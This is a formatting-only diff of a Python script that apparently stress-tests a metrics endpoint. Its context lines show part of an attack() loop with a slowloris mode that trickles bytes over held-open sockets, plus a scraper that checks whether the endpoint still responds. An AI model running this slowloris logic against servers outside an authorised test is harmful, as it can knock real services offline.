@@ -47,7 +47,7 @@ def attack(mode: str, host: str, port: int, count: int) -> None:
                     continue
             try:
                 if mode == "slowloris":
-                    byte = request[sent[index]:sent[index] + 1] or b"a"
+                    byte = request[sent[index] : sent[index] + 1] or b"a"
                     sock.send(byte)
                     sent[index] += 1
                 elif sock.recv(1, socket.MSG_PEEK) == b"":  # silent: has the server closed it?
@@ -73,8 +73,9 @@ def scrape(url: str, credentials: str | None) -> None:
     while not stopping:
         began = time.perf_counter()
         try:
-            with urllib.request.urlopen(urllib.request.Request(url, headers=headers),
-                                        timeout=SCRAPE_TIMEOUT) as response:
+            with urllib.request.urlopen(
+                urllib.request.Request(url, headers=headers), timeout=SCRAPE_TIMEOUT
+            ) as response:
                 ok = response.status == 200 and b"mindspore_train_steps_total" in response.read()
         except OSError:
             ok = False
